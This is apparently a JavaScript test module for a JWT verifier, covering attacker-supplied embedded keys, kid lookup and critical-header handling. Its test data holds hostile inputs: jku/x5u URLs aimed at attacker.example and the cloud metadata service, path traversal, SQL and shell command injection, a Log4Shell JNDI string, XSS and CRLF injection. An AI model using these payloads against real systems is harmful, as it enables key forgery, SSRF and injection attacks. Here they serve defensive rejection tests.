// Header parameters that lead to keys, or ask for what is not there.

import { Group } from '../cases.mjs';
import { curveJwk, H1, octJwk, R2, rsaJwk } from '../keys.mjs';
import { CLAIMS, ES, es, goodHs, HS, hs, RS, rs, token } from '../tokens.mjs';

/** Headers by which an attacker would bring his own key, `r2`. */
function lures() {
  const jwk = rsaJwk(R2, { kid: 'r2' });
  const certificate = Buffer.from('30820122300d06092a864886f70d0101', 'hex').toString('base64');
  return {
    jwk: { jwk },
    'jwk-with-our-kid': { jwk: { ...jwk, kid: 'r1' } },
    'jwk-in-a-set': { jwk: { keys: [jwk] } },
    'jwk-as-text': { jwk: JSON.stringify(jwk) },
    jwks: { jwks: { keys: [jwk] } },
    keys: { keys: [jwk] },
    key: { key: jwk },
    x5c: { x5c: [certificate] },
    'x5c-text': { x5c: certificate },
    'x5c-empty': { x5c: [] },
    x5t: { x5t: 'AAAAAAAAAAAAAAAAAAAAAAAAAAA' },
    'x5t#S256': { 'x5t#S256': 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' },
    'jku-https': { jku: 'https://attacker.example/jwks.json' },
    'jku-loopback': { jku: 'http://127.0.0.1:8080/_jwks' },
    'jku-metadata-service': { jku: 'http://169.254.169.254/latest/meta-data/' },
    'jku-file': { jku: 'file:///etc/passwd' },
    'jku-data': { jku: 'data:application/json,{"keys":[]}' },
    'jku-crlf': { jku: 'https://issuer.example/\r\nHost: attacker.example' },
    'jku-userinfo': { jku: 'https://issuer.example@attacker.example/jwks.json' },
    'x5u-https': { x5u: 'https://attacker.example/cert.pem' },
    'x5u-internal-location': { x5u: '/_jwks' },
    'iss-in-header': { iss: 'https://attacker.example' },
    'jku-and-jwk': { jku: 'https://attacker.example/jwks.json', jwk },
  };
}

export function embedded() {
  const group = new Group(
    'embedded',
    'RFC 7515 4.1.2-4.1.8, RFC 8725 3.10: no key that a token brings or names by a URL is used',
  );
  const byAttacker = rs('RS256', R2);
  for (const [name, lure] of Object.entries(lures())) {
    group.invalid(`${name}-kid-of-ours`, 'bad_signature/signature', {
      token: token({ ...RS, ...lure }, CLAIMS, byAttacker),
      keys: 'rsa',
    });
    group.invalid(`${name}-kid-of-its-own`, 'unknown_key/kid', {
      token: token({ alg: 'RS256', kid: 'r2', ...lure }, CLAIMS, byAttacker),
      keys: 'rsa',
    });
    group.valid(`${name}-ignored`, {
      token: token({ ...RS, ...lure }, CLAIMS, rs()),
      keys: 'rsa',
      comment: 'signed by a trusted key; the lure must be passed over, and nothing fetched',
    });
  }
  group.invalid('jwk-without-kid', 'bad_signature/signature', {
    token: token({ alg: 'RS256', jwk: rsaJwk(R2) }, CLAIMS, byAttacker),
    keys: 'rsa',
  });
  const forged = Buffer.alloc(64, 7);
  group.invalid('jwk-oct', 'unknown_key/kid', {
    token: token({ alg: 'HS256', jwk: octJwk(forged) }, CLAIMS, hs(forged)),
    keys: 'rsa',
  });
  group.invalid('jwk-oct-beside-a-secret', 'bad_signature/signature', {
    token: token({ ...HS, jwk: octJwk(forged) }, CLAIMS, hs(forged)),
  });
  group.invalid('jwk-ec', 'bad_signature/signature', {
    token: token({ ...ES, jwk: curveJwk('e2') }, CLAIMS, es('e2')),
    keys: 'ec',
  });
  return group.cases;
}

const LONG = 'k'.repeat(4000);

/** Names that no key has; each might lead somewhere in a careless look-up. */
const UNKNOWN = [
  ...[
    '..',
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/proc/self/environ',
    'file:///dev/null',
  ],
  ...[
    '../../../../../../dev/null\u0000.pem',
    '%2e%2e%2fh1',
    'h1/../h1',
    './h1',
    '/h1',
    'h1#',
    'h1?x=1',
  ],
  ...[
    "' OR '1'='1",
    "h1' --",
    "x' UNION SELECT 'secret",
    '"; DROP TABLE keys; --',
    '$(id)',
    '`id`',
    '; id',
  ],
  ...[
    '| cat /etc/passwd',
    '{{7*7}}',
    '<script>alert(1)</script>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to stand there as it is
    '${jndi:ldap://attacker.example/a}',
  ],
  ...[
    'https://attacker.example/key',
    'http://169.254.169.254/',
    'h1\r\nX-Injected: 1',
    'h1\n',
    'h1\t',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'valueOf',
    'length',
    '0',
    'undefined',
    'null',
  ],
  ...[
    '',
    ' ',
    'h1 ',
    ' h1',
    'H1',
    'h1\u0000',
    'h1\u200b',
    '\ufeffh1',
    'ｈ1',
    'h\u0031\u0301',
    'h',
    'h11',
    '*',
    '%s%n',
  ],
  ...['🔑', 'ключ', '\u202eh1', LONG],
];

/** Names that a key may have; nothing speaks against one. */
const KNOWN = [
  ...[
    '__proto__',
    'constructor',
    'toString',
    'length',
    '0',
    '',
    ' ',
    'a b',
    'a"b',
    "a'b",
    'a\\b',
    'a/b',
  ],
  ...[
    '../../etc/passwd',
    'h1\u0000',
    'h1\n',
    'é',
    '🔑',
    'ключ',
    '\ufeffh1',
    'a=b&c',
    '%41',
    '\ud800',
    LONG,
  ],
];

export function kid() {
  const group = new Group('kid', 'RFC 7515 4.1.4: kid is a hint, compared character by character');
  for (const kid of UNKNOWN) {
    const name = kid === LONG ? 'long' : kid;
    group.invalid(`unknown-${name}`, 'unknown_key/kid', { token: token({ alg: 'HS256', kid }) });
  }
  for (const kid of KNOWN) {
    const name = kid === LONG ? 'long' : kid === '\ud800' ? 'lone-surrogate' : kid;
    group.valid(`known-${name}`, {
      token: token({ alg: 'HS256', kid }),
      keys: { keys: [octJwk(H1, { kid })] },
    });
  }
  for (const kid of [null, true, false, 0, 1, [], ['h1'], {}, { h1: 'h1' }]) {
    group.invalid(
      `type-${JSON.stringify(kid)}`,
      'invalid_jwt/kid',
      { token: token({ alg: 'HS256', kid }) },
      'RFC 7515 4.1.4: kid MUST be a string',
    );
  }
  group.invalid('number-for-a-number', 'invalid_jwt/kid', {
    token: token({ alg: 'HS256', kid: 5 }),
    keys: { keys: [octJwk(H1, { kid: 5 })] },
  });
  group.invalid('text-for-a-number', 'unknown_key/kid', {
    token: token({ alg: 'HS256', kid: '5' }),
    keys: { keys: [octJwk(H1, { kid: 5 })] },
  });
  group.invalid('kid-of-100-kB', 'invalid_jwt/size', {
    token: token({ alg: 'HS256', kid: 'k'.repeat(100_000) }),
  });
  group.invalid('nfd-for-nfc', 'unknown_key/kid', {
    token: token({ alg: 'HS256', kid: 'e\u0301' }),
    keys: { keys: [octJwk(H1, { kid: 'é' })] },
  });
  group.invalid('key-without-kid', 'unknown_key/kid', {
    token: goodHs(),
    keys: { keys: [octJwk(H1)] },
    comment: 'the token names a key, and this one has no name',
  });
  group.valid('token-without-kid', {
    token: token({ alg: 'HS256' }),
    keys: { keys: [octJwk(Buffer.alloc(64, 1), { kid: 'a' }), octJwk(H1, { kid: 'b' })] },
  });
  group.valid(
    'two-keys-of-one-name',
    {
      token: goodHs(),
      keys: { keys: [octJwk(Buffer.alloc(64, 1), { kid: 'h1' }), octJwk(H1, { kid: 'h1' })] },
    },
    'RFC 7517 4.5: several keys may have one kid',
  );
  const noise = Array.from({ length: 7 }, (_, index) =>
    octJwk(Buffer.alloc(64, index), { kid: 'h1' }),
  );
  group.valid(
    'eighth-key-of-one-name',
    {
      token: goodHs(),
      keys: { keys: [...noise, octJwk(H1, { kid: 'h1' })] },
    },
    'docs/settings.md: eight keys are tried',
  );
  group.invalid(
    'ninth-key-of-one-name',
    'bad_signature/signature',
    {
      token: goodHs(),
      keys: {
        keys: [...noise, octJwk(Buffer.alloc(64, 8), { kid: 'h1' }), octJwk(H1, { kid: 'h1' })],
      },
    },
    'docs/settings.md: eight keys are tried',
  );
  return group.cases;
}

export function extensions() {
  const group = new Group(
    'extension',
    'RFC 7515 4.1.11: no extension is understood, so none may be critical',
  );
  const lists = [
    [],
    [''],
    ['exp'],
    ['b64'],
    ['alg'],
    ['kid'],
    ['crit'],
    ['x', 'x'],
    [5],
    [null],
    [[]],
    ['urn:example:a'],
  ];
  for (const crit of [...lists, 'exp', '', null, true, false, 0, {}, { exp: true }]) {
    group.invalid(`crit-${JSON.stringify(crit)}`, 'invalid_jwt/crit', {
      token: token({ ...HS, exp: 4102444800, 'urn:example:a': 1, crit }),
    });
  }
  group.invalid('crit-b64-true', 'invalid_jwt/crit', {
    token: token({ ...HS, b64: true, crit: ['b64'] }),
  });
  group.invalid('crit-b64-false', 'invalid_jwt/crit', {
    token: token({ ...HS, b64: false, crit: ['b64'] }),
  });
  for (const b64 of [false, null, 0, 1, 'true', 'false', [], {}]) {
    group.invalid(
      `b64-${JSON.stringify(b64)}`,
      'invalid_jwt/b64',
      { token: token({ ...HS, b64 }) },
      'RFC 7797 3, 7: not with JWTs',
    );
  }
  for (const typ of [null, 5, true, [], {}]) {
    group.invalid(
      `typ-${JSON.stringify(typ)}`,
      'invalid_jwt/typ',
      { token: token({ ...HS, typ }) },
      'RFC 7515 4.1.9: typ is a string',
    );
  }
  const ignored = {
    'b64-true': { b64: true },
    'crit-capital': { Crit: ['exp'] },
    'crit-nested': { x: { crit: ['exp'], b64: false } },
    'crit-in-text': { x: '"crit":["exp"]' },
    'cty-jwt': { cty: 'JWT' },
    zip: { zip: 'DEF' },
    'enc-without-jwe': { enc: 'A256GCM' },
    nonce: { nonce: 'abc', url: 'https://issuer.example/', ppt: 'shaken' },
    'typ-empty': { typ: '' },
    'typ-long': { typ: 'application/'.repeat(50) },
    'claims-in-header': { iss: 'x', sub: 'y', aud: 'z', exp: 1 },
    null: { x: null },
  };
  for (const [name, header] of Object.entries(ignored)) {
    group.valid(
      `ignored-${name}`,
      { token: token({ ...HS, ...header }) },
      'RFC 7515 4: what is not understood is ignored',
    );
  }
  group.valid('ignored-crit-in-the-claims', {
    token: token(HS, { ...CLAIMS, crit: ['exp'], b64: false }),
  });
  return group.cases;
}
